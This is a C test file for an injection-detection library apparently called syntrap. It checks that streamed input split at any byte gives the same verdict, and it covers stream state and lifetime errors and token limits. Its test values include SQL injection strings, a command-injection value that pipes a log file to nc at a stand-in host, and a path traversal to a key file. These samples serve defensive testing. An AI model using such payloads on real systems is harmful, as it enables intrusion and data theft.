/* Values in pieces. */
#include "check.h"

static const char *const values[] = {
    ATTACK,
    BENIGN,
    "x'; exec archive..rebuild 'orders' -- ",
    "192.0.2.1; tail -n 9 app.log | nc 192.0.2.7 80",
    "thumbs/../../secret.pem",
    "a < b && c > d",
    "",
};

static void finish_as_json(syntrap_stream *stream, char *json, size_t size)
{
    syntrap_report *report;
    syntrap_text text;
    OK(syntrap_stream_finish(stream, &report));
    OK(syntrap_report_json(report, &text));
    CHECK(text.length < size);
    memcpy(json, text.data, text.length + 1);
    syntrap_report_free(report);
    syntrap_stream_free(stream);
}

static void a_cut_at_any_byte_changes_no_report(void)
{
    syntrap_detector *detector = default_detector();
    char json[8192];

    for (size_t v = 0; v < sizeof values / sizeof *values; v++) {
        size_t length = strlen(values[v]);
        syntrap_report *whole;
        syntrap_text expected;
        OK(syntrap_scan(detector, values[v], length, &whole));
        OK(syntrap_report_json(whole, &expected));
        for (size_t cut = 0; cut <= length; cut++) {
            syntrap_stream *stream;
            OK(syntrap_stream_new(detector, &stream));
            OK(syntrap_stream_push(stream, values[v], cut));
            OK(syntrap_stream_push(stream, NULL, 0));
            OK(syntrap_stream_push(stream, values[v] + cut, length - cut));
            finish_as_json(stream, json, sizeof json);
            CHECK(is(expected, json));
        }
        syntrap_report_free(whole);
    }
    syntrap_detector_free(detector);
}

static void single_bytes_are_pieces_too(void)
{
    syntrap_detector *detector = default_detector();
    syntrap_stream *stream;
    syntrap_report *report;
    char byte;

    OK(syntrap_stream_new(detector, &stream));
    for (size_t at = 0; at < sizeof ATTACK - 1; at++) {
        byte = ATTACK[at]; /* over the last one: nothing is kept by pointer */
        OK(syntrap_stream_push(stream, &byte, 1));
    }
    OK(syntrap_stream_finish(stream, &report));
    CHECK(verdict_of(report) == SYNTRAP_ATTACK);
    syntrap_report_free(report);
    syntrap_stream_free(stream);
    syntrap_detector_free(detector);
}

static void a_finished_stream_refuses_every_use_but_free(void)
{
    syntrap_detector *detector = default_detector();
    syntrap_stream *stream;
    syntrap_report *report, *second;

    OK(syntrap_stream_new(detector, &stream));
    OK(syntrap_stream_finish(stream, &report));
    for (int i = 0; i < 3; i++) {
        CHECK(syntrap_stream_push(stream, VALUE("x")) == SYNTRAP_BAD_STATE);
        CHECK(strstr(syntrap_message(), "finished") != NULL);
        CHECK(syntrap_stream_finish(stream, &second) == SYNTRAP_BAD_STATE && second == NULL);
    }
    syntrap_stream_free(stream);
    CHECK(verdict_of(report) == SYNTRAP_BENIGN); /* outlives its stream */
    syntrap_report_free(report);
    syntrap_detector_free(detector);
}

static void a_failed_push_leaves_the_stream_usable(void)
{
    syntrap_detector *detector = default_detector();
    syntrap_stream *stream;
    syntrap_report *report;

    OK(syntrap_stream_new(detector, &stream));
    OK(syntrap_stream_push(stream, VALUE("1' UNION ")));
    CHECK(syntrap_stream_push(stream, NULL, 4) == SYNTRAP_NULL_ARGUMENT);
    CHECK(syntrap_stream_finish(stream, NULL) == SYNTRAP_NULL_ARGUMENT);
    OK(syntrap_stream_push(stream, VALUE("SELECT password FROM users")));
    OK(syntrap_stream_finish(stream, &report));
    CHECK(verdict_of(report) == SYNTRAP_ATTACK);
    syntrap_report_free(report);
    syntrap_stream_free(stream);
    syntrap_detector_free(detector);
}

static void a_stream_outlives_its_detector(void)
{
    syntrap_detector *detector = default_detector();
    syntrap_stream *stream, *unused;
    syntrap_report *report;

    OK(syntrap_stream_new(detector, &stream));
    OK(syntrap_stream_new(detector, &unused));
    syntrap_detector_free(detector);
    OK(syntrap_stream_push(stream, VALUE(ATTACK)));
    OK(syntrap_stream_finish(stream, &report));
    CHECK(verdict_of(report) == SYNTRAP_ATTACK);
    syntrap_report_free(report);
    syntrap_stream_free(stream);
    syntrap_stream_free(unused); /* freed without being finished */
}

static void a_token_beyond_the_limit_leaves_a_stream_undecided(void)
{
    syntrap_config *config;
    syntrap_detector *detector;
    syntrap_stream *stream;
    syntrap_report *report;
    syntrap_text reason;

    OK(syntrap_config_new(&config));
    OK(syntrap_config_token_bytes(config, 16));
    OK(syntrap_config_languages(config, VALUE("sql")));
    OK(syntrap_detector_new(config, &detector));
    OK(syntrap_stream_new(detector, &stream));
    OK(syntrap_stream_push(stream, VALUE("1 or $")));
    for (int i = 0; i < 64; i++)
        OK(syntrap_stream_push(stream, VALUE("tag")));
    OK(syntrap_stream_finish(stream, &report));
    CHECK(verdict_of(report) == SYNTRAP_UNDECIDED);
    OK(syntrap_report_reason(report, &reason));
    CHECK(is(reason, "token-too-long"));
    syntrap_report_free(report);
    syntrap_stream_free(stream);
    syntrap_detector_free(detector);
    syntrap_config_free(config);
}

int main(void)
{
    RUN(a_cut_at_any_byte_changes_no_report);
    RUN(single_bytes_are_pieces_too);
    RUN(a_finished_stream_refuses_every_use_but_free);
    RUN(a_failed_push_leaves_the_stream_usable);
    RUN(a_stream_outlives_its_detector);
    RUN(a_token_beyond_the_limit_leaves_a_stream_undecided);
    return 0;
}
